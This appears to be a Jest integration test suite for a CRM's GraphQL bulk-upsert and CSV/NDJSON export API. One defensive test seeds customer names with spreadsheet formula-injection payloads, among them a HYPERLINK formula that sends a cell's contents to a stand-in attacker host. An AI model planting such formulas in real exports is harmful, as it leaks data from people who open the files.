import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import {
  CreateCustomerDocument,
  CreateProductDocument,
  CreateQuotesDocument,
  Customer360Document,
  CustomerCaseAndQuoteCountsDocument,
  OpenCasesDocument,
  OpportunityDocument,
  RecordInteractionItemsDocument,
  UpsertCustomersDocument,
  UpsertLeadsDocument,
  UpsertOpportunitiesDocument,
} from './generated/graphql.js';
import type { UpsertCustomerInput, UpsertLeadInput, UpsertOpportunityInput, RecordInteractionInput } from './generated/graphql.js';
import { execute, executeOk } from './helpers/graphql.js';
import { startPlatform, type Platform } from './helpers/platform.js';

let platform: Platform;
let exportUrl: string;
beforeAll(async () => {
  platform = await startPlatform();
  exportUrl = platform.gatewayUrl.replace(/\/graphql$/, '/export');
});
afterAll(() => platform.stop());

const BATCH = 1000;
/** 20 calls of 1,000 or an export of 10,000 rows: well within on an idle machine, but not on a loaded one. */
const LARGE = 240_000;
const batches = <T>(items: T[]): T[][] => Array.from({ length: Math.ceil(items.length / BATCH) }, (_, i) => items.slice(i * BATCH, (i + 1) * BATCH));

/** POST /export as the admin (or `authorization`), the answer's status, headers and body. */
async function exportList(body: Record<string, unknown>, authorization: string | null = platform.admin.authorization) {
  const response = await fetch(exportUrl, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(authorization ? { authorization } : {}) },
    body: JSON.stringify(body),
  });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

/** How many cases and quotes a customer has, through the graph. */
async function counts(customerId: string) {
  const { customer } = await executeOk(platform.gatewayUrl, CustomerCaseAndQuoteCountsDocument, { id: customerId });
  return { caseCount: customer?.cases?.totalCount ?? 0, quoteCount: customer?.quotes?.totalCount ?? 0 };
}

const ndjson = (text: string) =>
  text
    .split('\n')
    .filter(Boolean)
    .map((line) => JSON.parse(line) as Record<string, unknown>);

/** RFC 4180 as csv-stringify writes it: quoted fields may hold commas, quotes (doubled) and newlines. */
function parseCsv(text: string): Array<Record<string, string>> {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (c === '"') quoted = !quoted;
    else if (quoted || (c !== ',' && c !== '\n')) field += c;
    else {
      row.push(field);
      field = '';
      if (c === '\n') {
        rows.push(row);
        row = [];
      }
    }
  }
  const [header, ...data] = rows;
  return data.map((cells) => Object.fromEntries(header!.map((name, i) => [name, cells[i] ?? ''])));
}

describe('bulk upserts of customers, round-tripped through the export', () => {
  const run = randomUUID().slice(0, 8);
  const industry = `bulk test ${run}`;
  // Czech mobile numbers, one per customer: +420 601 followed by six digits.
  const phoneOf = (i: number) => `+420601${String(i).padStart(6, '0')}`;
  const customer = (i: number, jobTitle = 'driver'): UpsertCustomerInput => ({
    sourceSystem: 'dms',
    externalId: `${run}-${i}`,
    firstName: `Anna${i}`,
    lastName: 'Bulková',
    industry,
    jobTitle,
    emails: [`Anna.${i}.${run}@Bulk.example`],
    phones: [phoneOf(i)],
    consents: [
      {
        purpose: 'MARKETING',
        channel: 'EMAIL',
        status: i % 2 ? 'GRANTED' : 'WITHDRAWN',
        source: 'dms-import',
        textVersion: 'v1',
        givenAt: '2026-01-02T03:04:05.000Z',
      },
    ],
  });
  const items = Array.from({ length: 10_000 }, (_, i) => customer(i));
  const ids: string[] = [];
  const query = `{ customers(filter: { industry: "${industry}" }) { edges { node {
    id displayName firstName jobTitle emails phones consents { purpose channel status } identifiers { kind value } } } } }`;

  it(
    'round-trips 10,000 customers: ten calls of 1,000, again with every tenth changed, then out as NDJSON and as CSV',
    async () => {
      for (const batch of batches(items)) {
        await platform.resetSqlLog();
        const { upsertCustomers } = await executeOk(platform.gatewayUrl, UpsertCustomersDocument, { input: batch });
        // Set-based: a handful of statements for 1,000 customers with their identifiers, consents and events.
        expect(platform.sql.identity.length).toBeLessThan(25);
        expect(upsertCustomers).toMatchObject({ created: BATCH, updated: 0, unchanged: 0 });
        expect(upsertCustomers.items.map((item) => item.index)).toEqual(batch.map((_, i) => i));
        ids.push(...upsertCustomers.items.map((item) => item.id));
      }
      expect(new Set(ids).size).toBe(10_000);

      // Again, every tenth with a new job title: the same ids, nothing duplicated.
      for (const [n, batch] of batches(items).entries()) {
        const changed = batch.map((item, i) => ((n * BATCH + i) % 10 === 0 ? { ...item, jobTitle: 'fleet manager' } : item));
        const { upsertCustomers } = await executeOk(platform.gatewayUrl, UpsertCustomersDocument, { input: changed });
        expect(upsertCustomers).toMatchObject({ created: 0, updated: BATCH / 10, unchanged: BATCH - BATCH / 10 });
        expect(upsertCustomers.items.map((item) => item.id)).toEqual(ids.slice(n * BATCH, (n + 1) * BATCH));
      }

      // Out as NDJSON: one customer a line, the total up front, what went in comes out.
      const answer = await exportList({ query, format: 'ndjson' });
      expect(answer.status).toBe(200);
      expect(answer.headers.get('content-type')).toContain('application/x-ndjson');
      expect(answer.headers.get('content-disposition')).toBe('attachment; filename="customers.ndjson"');
      expect(answer.headers.get('x-total-count')).toBe('10000');
      const lines = ndjson(answer.text);
      expect(lines).toHaveLength(10_000);
      const byId = new Map(lines.map((line) => [line.id as string, line]));
      ids.forEach((id, i) => {
        expect(byId.get(id)).toEqual({
          id,
          displayName: `Anna${i} Bulková`,
          firstName: `Anna${i}`,
          jobTitle: i % 10 === 0 ? 'fleet manager' : 'driver',
          emails: [`anna.${i}.${run}@bulk.example`],
          phones: [phoneOf(i)],
          consents: [{ purpose: 'MARKETING', channel: 'EMAIL', status: i % 2 ? 'GRANTED' : 'WITHDRAWN' }],
          identifiers: expect.arrayContaining([
            { kind: 'EXTERNAL', value: `dms:${run}-${i}` },
            { kind: 'EMAIL', value: `anna.${i}.${run}@bulk.example` },
            { kind: 'PHONE', value: phoneOf(i) },
          ]),
        });
      });

      // Out as CSV: a header row, nested fields as dotted columns, lists joined.
      const csv = await exportList({ query, format: 'csv' });
      expect(csv.status).toBe(200);
      expect(csv.headers.get('content-type')).toContain('text/csv');
      expect(csv.text.split('\n')[0]).toBe(
        'id,displayName,firstName,jobTitle,emails,phones,consents.purpose,consents.channel,consents.status,identifiers.kind,identifiers.value',
      );
      const rows = parseCsv(csv.text);
      expect(rows).toHaveLength(10_000);
      const csvById = new Map(rows.map((row) => [row.id!, row]));
      ids.forEach((id, i) => {
        expect(csvById.get(id)).toMatchObject({
          displayName: `Anna${i} Bulková`,
          jobTitle: i % 10 === 0 ? 'fleet manager' : 'driver',
          emails: `anna.${i}.${run}@bulk.example`,
          phones: phoneOf(i),
          'consents.status': i % 2 ? 'GRANTED' : 'WITHDRAWN',
        });
      });
    },
    2 * LARGE,
  );

  it('writes nothing when one item of 1,000 is bad, and names every bad item by index and field', async () => {
    const other = randomUUID().slice(0, 8);
    const taken = `${other}.taken@bulk.example`;
    const { upsertCustomers: owner } = await executeOk(platform.gatewayUrl, UpsertCustomersDocument, {
      input: [{ sourceSystem: 'dms', externalId: other, lastName: 'Owner', emails: [taken], phones: [], consents: [] }],
    });
    const batch = Array.from({ length: BATCH }, (_, i) => ({
      ...customer(i),
      externalId: `${other}-${i}`,
      emails: [`${other}.${i}@bulk.example`],
      phones: [],
      industry: other,
    }));
    batch[537] = { ...batch[537]!, emails: ['not an address'] };
    batch[900] = { ...batch[900]!, firstName: null, lastName: null };
    batch[901] = { ...batch[901]!, emails: [taken] }; // a customer dms knows under another externalId
    const answer = await execute(platform.gatewayUrl, UpsertCustomersDocument, { input: batch });
    expect(answer.errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      items: [
        { index: 537, field: 'emails.0' },
        { index: 900, field: 'lastName' },
        { index: 901, field: 'emails.0', message: expect.stringContaining(owner.items[0]!.id) },
      ],
    });
    expect(answer.errors?.[0]?.message).toMatch(/^3 of 1000 customers are not valid, so none was written: item 537 \(emails\.0\)/);
    const written = await exportList({ query: `{ customers(filter: { industry: "${other}" }) { totalCount edges { node { id } } } }` });
    expect(written).toMatchObject({ status: 200, text: '' });
    expect(written.headers.get('x-total-count')).toBe('0');
  });

  it('answers a retry with the same Idempotency-Key with the first answer, and more than 1,000 items with BAD_USER_INPUT', async () => {
    const other = randomUUID().slice(0, 8);
    const batch = Array.from({ length: 10 }, (_, i) => ({ ...customer(i), externalId: `${other}-${i}`, emails: [], phones: [], consents: [] }));
    const key = randomUUID();
    const first = await execute(platform.gatewayUrl, UpsertCustomersDocument, { input: batch }, { 'idempotency-key': key });
    const retry = await execute(platform.gatewayUrl, UpsertCustomersDocument, { input: batch }, { 'idempotency-key': key });
    expect(first.data?.upsertCustomers.created).toBe(10);
    expect(retry).toEqual(first);
    const tooMany = await execute(platform.gatewayUrl, UpsertCustomersDocument, { input: Array.from({ length: 1001 }, () => batch[0]!) });
    expect(tooMany.errors?.[0]).toMatchObject({ message: expect.stringContaining('at most 1000'), extensions: { code: 'BAD_USER_INPUT' } });
  });
});

describe('bulk upserts of leads and interactions, round-tripped through the export', () => {
  it('upserts 2,000 leads, again unchanged but for the one changed (a customer id identity does not know is refused), and exports them', async () => {
    const run = randomUUID().slice(0, 8);
    const lead = (i: number): UpsertLeadInput => ({
      sourceSystem: 'partner-portal',
      externalId: `${run}-${i}`,
      source: 'PARTNER',
      contactName: `Lead ${i}`,
      contactEmail: `lead.${i}.${run}@bulk.example`,
      interest: i % 2 ? 'Octavia' : 'Kodiaq',
      score: i % 101,
    });
    const items = Array.from({ length: 2000 }, (_, i) => lead(i));
    const ids: string[] = [];
    for (const batch of batches(items)) {
      await platform.resetSqlLog();
      const { upsertLeads } = await executeOk(platform.gatewayUrl, UpsertLeadsDocument, { input: batch });
      expect(platform.sql.sales.length).toBeLessThan(25);
      expect(upsertLeads).toMatchObject({ created: BATCH, updated: 0, unchanged: 0 });
      ids.push(...upsertLeads.items.map((item) => item.id));
    }
    const again = await executeOk(platform.gatewayUrl, UpsertLeadsDocument, { input: [...items.slice(0, 999), { ...items[999]!, interest: 'Enyaq' }] });
    expect(again.upsertLeads).toMatchObject({ created: 0, updated: 1, unchanged: 999 });
    expect(again.upsertLeads.items.map((item) => item.id)).toEqual(ids.slice(0, 1000));

    const unknownCustomer = await execute(platform.gatewayUrl, UpsertLeadsDocument, {
      input: [{ ...lead(5000), customerId: randomUUID() }, lead(5001)],
    });
    expect(unknownCustomer.errors?.[0]?.extensions).toMatchObject({ items: [{ index: 0, field: 'customerId' }] });

    for (const format of ['ndjson', 'csv'] as const) {
      const answer = await exportList({ query: '{ leads { edges { node { id externalId contactName contactEmail interest score } } } }', format });
      expect(answer.status).toBe(200);
      expect(answer.headers.get('x-total-count')).toBe('2000');
      const rows = format === 'csv' ? parseCsv(answer.text) : ndjson(answer.text);
      expect(rows).toHaveLength(2000);
      const byId = new Map(rows.map((row) => [row.id as string, row]));
      ids.forEach((id, i) => {
        const expected = {
          externalId: `${run}-${i}`,
          contactEmail: `lead.${i}.${run}@bulk.example`,
          interest: i === 999 ? 'Enyaq' : lead(i).interest,
          score: i % 101,
        };
        expect(byId.get(id)).toMatchObject(format === 'csv' ? { ...expected, score: String(expected.score) } : expected);
      });
    }
  });

  it("upserts 1,000 of a customer's opportunities in a constant number of statements, again unchanged but for the one moved, and refuses an unknown customer", async () => {
    const run = randomUUID().slice(0, 8);
    const { upsertCustomers } = await executeOk(platform.gatewayUrl, UpsertCustomersDocument, {
      input: [{ sourceSystem: 'dms', externalId: `deals-${run}`, lastName: 'Dealová', emails: [], phones: [], consents: [] }],
    });
    const customerId = upsertCustomers.items[0]!.id;
    const deal = (i: number): UpsertOpportunityInput => ({
      sourceSystem: 'dms',
      externalId: `${run}-${i}`,
      customerId,
      title: `Octavia ${i}`,
      amount: { amount: `${600000 + i}.00`, currency: 'CZK' },
      expectedCloseDate: '2027-06-30',
    });
    const items = Array.from({ length: BATCH }, (_, i) => deal(i));
    await platform.resetSqlLog();
    const { upsertOpportunities } = await executeOk(platform.gatewayUrl, UpsertOpportunitiesDocument, { input: items });
    expect(platform.sql.sales.length).toBeLessThan(25);
    expect(upsertOpportunities).toMatchObject({ created: BATCH, updated: 0, unchanged: 0 });

    const again = await executeOk(platform.gatewayUrl, UpsertOpportunitiesDocument, { input: [...items.slice(0, 999), { ...items[999]!, stage: 'Ordered' }] });
    expect(again.upsertOpportunities).toMatchObject({ created: 0, updated: 1, unchanged: 999 });
    expect(again.upsertOpportunities.items.map((item) => item.id)).toEqual(upsertOpportunities.items.map((item) => item.id));

    const { customer } = await executeOk(platform.gatewayUrl, Customer360Document, { id: customerId });
    expect(customer?.opportunities?.totalCount).toBe(BATCH);
    const { opportunity } = await executeOk(platform.gatewayUrl, OpportunityDocument, { id: again.upsertOpportunities.items[999]!.id });
    expect(opportunity).toMatchObject({ title: 'Octavia 999', stage: 'Ordered', status: 'WON', version: 2, stageHistory: { totalCount: 2 } });

    const unknownCustomer = await execute(platform.gatewayUrl, UpsertOpportunitiesDocument, {
      input: [deal(5000), { ...deal(5001), customerId: randomUUID() }],
    });
    expect(unknownCustomer.errors?.[0]?.extensions).toMatchObject({ code: 'NOT_FOUND', items: [{ index: 1, field: 'customerId' }] });
  });

  it('creates quotes with their lines and opens cases in bulk, one after another in one transaction: a bad item refuses all of them', async () => {
    const run = randomUUID().slice(0, 8);
    const { upsertCustomers } = await executeOk(platform.gatewayUrl, UpsertCustomersDocument, {
      input: [{ sourceSystem: 'dms', externalId: `service-${run}`, lastName: 'Servisní', emails: [], phones: [], consents: [] }],
    });
    const customerId = upsertCustomers.items[0]!.id;
    const { createProduct: car } = await executeOk(platform.gatewayUrl, CreateProductDocument, {
      input: { sku: `bulk-${run}`, name: 'Kodiaq', category: 'CAR', listPrice: { amount: '900000.00', currency: 'CZK' } },
    });
    const quote = (title: string, productId = car.id) => ({
      customerId,
      title,
      currency: 'CZK',
      taxRatePercent: '21',
      lines: [{ productId, discountPercent: '10' }, { productId }],
    });
    const { caseCount, quoteCount } = await counts(customerId);

    const refused = await execute(platform.gatewayUrl, CreateQuotesDocument, {
      input: [quote('Kept back'), quote('Unknown car', randomUUID()), { ...quote('Unknown deal'), opportunityId: randomUUID() }],
    });
    expect(refused.errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      items: [
        { index: 1, field: 'productId', message: expect.stringContaining('does not exist') },
        { index: 2, field: 'opportunityId', message: expect.stringContaining('does not exist') },
      ],
    });
    const { createQuotes } = await executeOk(platform.gatewayUrl, CreateQuotesDocument, { input: [quote('First'), quote('Second')] });
    expect(createQuotes).toMatchObject([
      { status: 'DRAFT', total: { amount: '2069100.00', currency: 'CZK' }, lines: [{ net: { amount: '810000.00' } }, { net: { amount: '900000.00' } }] },
      { status: 'DRAFT', total: { amount: '2069100.00', currency: 'CZK' } },
    ]);

    const openCase = (subject: string, assigneeId?: string) => ({ customerId, subject, channel: 'EMAIL' as const, assigneeId });
    const badCases = await execute(platform.gatewayUrl, OpenCasesDocument, {
      input: [openCase('Brakes squeal'), openCase('Wrong assignee', 'not-an-id'), openCase('Another wrong', 'nope')],
    });
    expect(badCases.errors?.[0]?.extensions).toMatchObject({
      items: [
        { index: 1, field: 'assigneeId' },
        { index: 2, field: 'assigneeId' },
      ],
    });
    const { openCases } = await executeOk(platform.gatewayUrl, OpenCasesDocument, { input: [openCase('Brakes squeal'), openCase('Invoice is wrong')] });
    expect(openCases.map((c) => [c.subject, c.customer.id])).toEqual([
      ['Brakes squeal', customerId],
      ['Invoice is wrong', customerId],
    ]);
    expect(openCases.every((c) => c.assignmentReason)).toBe(true);

    // The refused calls wrote nothing: only the second call of each is there.
    expect(await counts(customerId)).toEqual({ caseCount: caseCount + 2, quoteCount: quoteCount + 2 });
  });

  it('records 2,000 interactions of one customer idempotently by their external ids and exports the timeline', async () => {
    const run = randomUUID().slice(0, 8);
    const { upsertCustomers } = await executeOk(platform.gatewayUrl, UpsertCustomersDocument, {
      input: [{ sourceSystem: 'dms', externalId: run, lastName: 'Timeline', emails: [], phones: [], consents: [] }],
    });
    const customerId = upsertCustomers.items[0]!.id;
    const interaction = (i: number): RecordInteractionInput => ({
      customerId,
      channel: 'WEB',
      type: 'PAGE_VIEW',
      occurredAt: new Date(Date.UTC(2026, 0, 1) + i * 60_000).toISOString(),
      sourceSystem: 'web-analytics',
      externalEventId: `${run}-${i}`,
      properties: { url: `/cars/${i}`, note: 'a, "quoted" value' },
    });
    const items = Array.from({ length: 2000 }, (_, i) => interaction(i));
    const ids: string[] = [];
    for (const batch of batches(items)) {
      const { recordInteractions } = await executeOk(platform.gatewayUrl, RecordInteractionItemsDocument, { input: batch });
      expect(recordInteractions).toMatchObject({ accepted: BATCH, duplicates: 0 });
      ids.push(...recordInteractions.items.map((item) => item.id));
    }
    const retry = await executeOk(platform.gatewayUrl, RecordInteractionItemsDocument, { input: items.slice(1000) });
    expect(retry.recordInteractions).toMatchObject({ accepted: 0, duplicates: BATCH });
    expect(retry.recordInteractions.items.map((item) => [item.id, item.outcome])).toEqual(ids.slice(1000).map((id) => [id, 'UNCHANGED']));

    const bad = await execute(platform.gatewayUrl, RecordInteractionItemsDocument, {
      input: [interaction(3000), { ...interaction(3001), customerId: null }, { ...interaction(3002), customerId: 'nobody' }],
    });
    expect(bad.errors?.[0]?.extensions).toMatchObject({
      code: 'BAD_USER_INPUT',
      items: [
        { index: 1, field: 'customerId' },
        { index: 2, field: 'customerId' },
      ],
    });

    const query = `{ customer(id: "${customerId}") { interactions(filter: { channels: [WEB] }) { edges { node { id type occurredAt properties } } } } }`;
    const lines = ndjson((await exportList({ query })).text);
    // All 2,000, and nothing of the refused call.
    expect(lines.map((line) => line.id).sort()).toEqual([...ids].sort());
    const csv = await exportList({ query, format: 'csv' });
    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="interactions.csv"');
    const rows = parseCsv(csv.text);
    expect(rows).toHaveLength(2000);
    expect(JSON.parse(rows.find((row) => row.id === ids[7])!.properties!)).toEqual({ url: '/cars/7', note: 'a, "quoted" value' });
  });
});

describe('the export as a spreadsheet opens it', () => {
  it('writes a customer named like a formula as text, so that opening the file runs nothing', async () => {
    const tag = `Formula${randomUUID().slice(0, 8)}`;
    const names = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+SUM(1,2)', '@cmd'];
    for (const firstName of names) {
      await executeOk(platform.gatewayUrl, CreateCustomerDocument, {
        input: { kind: 'PERSON', firstName, lastName: 'Formula', industry: tag, emails: [], phones: [] },
      });
    }
    const csv = await exportList({ query: `{ customers(filter: { industry: "${tag}" }) { edges { node { firstName lastName } } } }`, format: 'csv' });
    expect(csv.status).toBe(200);
    expect(
      parseCsv(csv.text)
        .map((row) => row.firstName)
        .sort(),
    ).toEqual(names.map((name) => `'${name}`).sort());
  });
});

describe('the export runs as its caller', () => {
  it("gives a partner's API key what the key may read, and refuses personal data it may not (403, not an empty column)", async () => {
    const run = randomUUID().slice(0, 8);
    const input = [{ sourceSystem: 'dms', externalId: run, lastName: 'Partner', industry: run, emails: [`${run}@bulk.example`], phones: [], consents: [] }];
    await executeOk(platform.gatewayUrl, UpsertCustomersDocument, { input });
    const partner = await platform.createApiKey(['customers:read']);
    const names = await exportList({ query: `{ customers(filter: { industry: "${run}" }) { edges { node { displayName } } } }` }, partner.authorization);
    expect(names.status).toBe(200);
    expect(ndjson(names.text)).toEqual([{ displayName: 'Partner' }]);
    const emails = await exportList({ query: `{ customers(filter: { industry: "${run}" }) { edges { node { id emails } } } }` }, partner.authorization);
    expect(emails.status).toBe(403);
    expect(JSON.parse(emails.text)).toMatchObject({ errors: [{ extensions: { code: 'FORBIDDEN' } }] });
  });

  it('lets a key that may write customers but not consents upsert customers, only without consents', async () => {
    const partner = await platform.createApiKey(['customers:write']);
    const item = { sourceSystem: 'dms', externalId: randomUUID(), lastName: 'Keyed', emails: [], phones: [] };
    const consent = { purpose: 'MARKETING' as const, channel: 'EMAIL' as const, status: 'GRANTED' as const, source: 'dms', textVersion: 'v1' };
    const refused = await execute(
      platform.gatewayUrl,
      UpsertCustomersDocument,
      { input: [{ ...item, consents: [consent] }] },
      { authorization: partner.authorization },
    );
    expect(refused.errors?.[0]?.extensions).toMatchObject({ code: 'FORBIDDEN', permission: 'consents:write' });
    const done = await executeOk(
      platform.gatewayUrl,
      UpsertCustomersDocument,
      { input: [{ ...item, consents: [] }] },
      { authorization: partner.authorization },
    );
    expect(done.upsertCustomers.created).toBe(1);
  });

  it('waits out the rate limit between pages instead of failing the export', async () => {
    const limited = await platform.startGateway({
      rateLimits: {
        requestsPerMinute: 2,
        windowSeconds: 1,
        costPerMinute: 1e9,
        anonymousRequestsPerMinute: 100,
        socketsPerCaller: 10,
        subscriptionsPerSocket: 10,
      },
    });
    const run = randomUUID().slice(0, 8);
    const input = Array.from({ length: 9 }, (_, i) => ({
      sourceSystem: 'dms',
      externalId: `${run}-${i}`,
      lastName: `Paced ${i}`,
      industry: run,
      emails: [],
      phones: [],
      consents: [],
    }));
    await executeOk(platform.gatewayUrl, UpsertCustomersDocument, { input });
    // Five pages of two at two requests a second: the export must wait for the next window at least once.
    const answer = await fetch(limited.url.replace(/\/graphql$/, '/export'), {
      method: 'POST',
      headers: { 'content-type': 'application/json', authorization: platform.admin.authorization },
      body: JSON.stringify({ query: `{ customers(first: 2, filter: { industry: "${run}" }) { edges { node { lastName } } } }` }),
    });
    expect(answer.status).toBe(200);
    expect(ndjson(await answer.text()).map((line) => line.lastName)).toHaveLength(9);
  });
});

describe('the export endpoint refuses what it cannot stream', () => {
  it('answers 400 with a GraphQL error code for a query that is not one list, 401 without credentials', async () => {
    const twoLists = await exportList({ query: '{ customers { edges { node { id } } } leads { edges { node { id } } } }' });
    expect(twoLists.status).toBe(400);
    expect(JSON.parse(twoLists.text)).toMatchObject({
      errors: [{ message: expect.stringContaining('one list'), extensions: { code: 'BAD_USER_INPUT', field: 'query' } }],
    });
    const notAList = await exportList({
      query: '{ customers { edges { node { id } } } }'.replace(
        'customers { edges { node { id } } }',
        'customer(id: "7b1e0f7c-2a55-4d8e-8c1f-000000000101") { displayName }',
      ),
    });
    expect(notAList.status).toBe(400);
    const mutation = await exportList({ query: 'mutation { archiveCustomer(id: "x", version: 1) { id } }' });
    expect(JSON.parse(mutation.text).errors[0].extensions.code).toBe('BAD_USER_INPUT');
    const syntax = await exportList({ query: '{ customers { edges { node { id } }' });
    expect(JSON.parse(syntax.text).errors[0].extensions.code).toBe('GRAPHQL_PARSE_FAILED');
    const format = await exportList({ query: '{ customers { edges { node { id } } } }', format: 'xml' });
    expect(JSON.parse(format.text).errors[0].extensions).toMatchObject({ code: 'BAD_USER_INPUT', field: 'format' });
    const anonymous = await exportList({ query: '{ customers { edges { node { id } } } }' }, null);
    expect(anonymous.status).toBe(401);
    const unknownField = await exportList({ query: '{ customers { edges { node { id noSuchField } } } }' });
    expect(JSON.parse(unknownField.text).errors[0].extensions.code).toBe('GRAPHQL_VALIDATION_FAILED');
  });
});
